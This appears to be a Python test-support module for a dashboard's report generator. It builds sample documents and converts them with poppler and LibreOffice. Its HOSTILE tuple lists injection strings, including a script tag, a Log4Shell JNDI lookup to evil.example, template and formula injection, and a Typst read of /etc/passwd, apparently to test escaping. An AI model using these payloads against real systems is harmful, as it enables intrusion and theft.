"""Documents for the tests that read them: the shipped strategies assessed, and one of hostile texts."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

from dashboard.documents.assessment import Material, build_assessment
from dashboard.documents.blocks import (
    Block,
    Box,
    Bullets,
    CardBlock,
    Chart,
    CitedText,
    Contents,
    Document,
    Field,
    Heading,
    LetterHead,
    Paragraph,
    TableBlock,
)
from dashboard.presentation.languages import Wording
from dashboard.presentation.trend_chart import Curve, Spot, YearBand
from dashboard.workflow import document_material
from dashboard.workflow.snapshot import Snapshot
from dashboard.workflow.workspace import Workspace
from tests import databases
from tests.processes import office_profile
from tests.workbooks import office_python

ROOT = Path(__file__).resolve().parent.parent
NOW, ANNEX = ROOT / "indicators.yaml", ROOT / "data" / "2016-2019" / "indicators.yaml"
DAY = date(2023, 12, 31)

HOSTILE = (
    "<script>alert(1)</script> <img src=http://evil.example/x.png> &amp; &#60;",
    "**bold** _it_ `code` [link](http://evil.example) ![](http://evil.example/p.png) | pipe ~~s~~",
    "# no heading",
    "1. no list",
    "- no list",
    "$x^2$ \\alpha {{ 7*7 }} {% raise %} ${jndi:ldap://evil.example}",
    '#read("/etc/passwd") #import "@preview/x:1.0.0" @source-1 <label> = No heading',
    '=HYPERLINK("http://evil.example","x") +1+cmd|\' /C calc\'!A0 @SUM(1)',
    'https://evil.example www.evil.example me@evil.example {HYPERLINK "http://evil.example"}',
    "</w:t></w:r><w:r><w:t>x ]]> --> <?php ?> </script></style>",
)
"""Texts that some format would run, load or turn into something else."""

DAMAGED = "\x00\x1b[31m\x07\x85\ud800\udfff\ufffe\uffff\u202e end"
SHOWN = "⟨U+0000⟩⟨U+001B⟩[31m⟨U+0007⟩⟨U+0085⟩⟨U+D800⟩⟨U+DFFF⟩⟨U+FFFE⟩⟨U+FFFF⟩⟨U+202E⟩ end"
CZECH = "Příliš žluťoučký kůň úpěl ďábelské ódy – „uvozovky“"


@contextmanager
def workspace_of(path: Path, folder: Path) -> Iterator[Workspace]:
    """A strategy with a new database of its own in a folder."""
    file = folder / "papers.db"
    url = databases.sqlite(file) if path == NOW else f"sqlite:///{file}"
    workspace = databases.opened(url, path)
    yield workspace
    workspace.engine.dispose()


def material_of(workspace: Workspace, day: date | None = None) -> Material:
    made, problems = document_material.read_material(Snapshot(workspace), day or workspace.last_day)
    assert problems == []
    return made


def assessed(workspace: Workspace, language: str = "en") -> Document:
    return build_assessment(material_of(workspace), Wording(language))


def document(
    *blocks: Block, title: str = "A title", language: str = "en", head: LetterHead | None = None
) -> Document:
    subtitle, facts = "At the close of a day", {"as_of": "2023-12-31"}
    return Document(title, subtitle, language, DAY, facts, blocks, head=head)


def every_place(text: str) -> Document:
    """A document that has a text wherever a text may stand."""
    spot = Spot(2020, 1, "", remark=False, tells=(text,))
    absent = Spot(2021, None, text[:60], remark=True, tells=())
    curve = Curve(text[:60], "persons", (spot, absent), (2021,))
    return document(
        Contents(text[:200]),
        Heading(1, text[:200]),
        Paragraph(text),
        Paragraph(CitedText(text, (1,)), note=True),
        Bullets((text, CitedText(text, (1,)))),
        Bullets((CitedText(text, lead=text[:200]),), numbered=True),
        Box(text),
        TableBlock(
            text[:200],
            (text[:200], "2020"),
            ((CitedText(text, (1,)), text),),
            widths=(1, 1),
            targets=(1,),
        ),
        CardBlock(
            text[:200], (Field(text[:200]), Field(text[:200], (text, CitedText(text, (1,)))))
        ),
        Chart(text[:200], (curve,), (YearBand(text[:60], 2020, 2021),), text[:200]),
        title=text[:200],
        head=LetterHead((text, text), ((text[:200], text),), (text, text)),
    )


def poppler(tool: str, content: bytes, folder: Path, *options: str) -> str:
    """What a tool of poppler prints of a PDF."""
    path = folder / "read.pdf"
    path.write_bytes(content)
    arguments = [tool, *options, str(path), *(["-"] if tool == "pdftotext" else [])]
    return subprocess.run(arguments, capture_output=True, check=True).stdout.decode()


def with_contents_updated(content: bytes, folder: Path) -> tuple[bytes, str]:
    """A Word file printed by LibreOffice after it has updated the contents, and the contents."""
    python = office_python()
    assert python is not None
    source, target = folder / "given.docx", folder / "updated.pdf"
    source.write_bytes(content)
    program = Path(__file__).with_name("libreoffice_contents.py")
    told = subprocess.run(
        [python, program, source, target, folder / "office"],
        check=True, stdout=subprocess.PIPE, timeout=180,
    )  # fmt: skip
    return target.read_bytes(), told.stdout.decode()


def by_office(content: bytes, folder: Path, kind: str = "pdf") -> bytes:
    """A Word file printed by LibreOffice, or saved in another format."""
    path, out = folder / "given.docx", folder / "saved"
    path.write_bytes(content)
    office = ["soffice", office_profile(), "--headless", "--convert-to", kind]
    subprocess.run([*office, "--outdir", out, path], capture_output=True, check=True, timeout=180)
    return (out / f"given.{kind}").read_bytes()
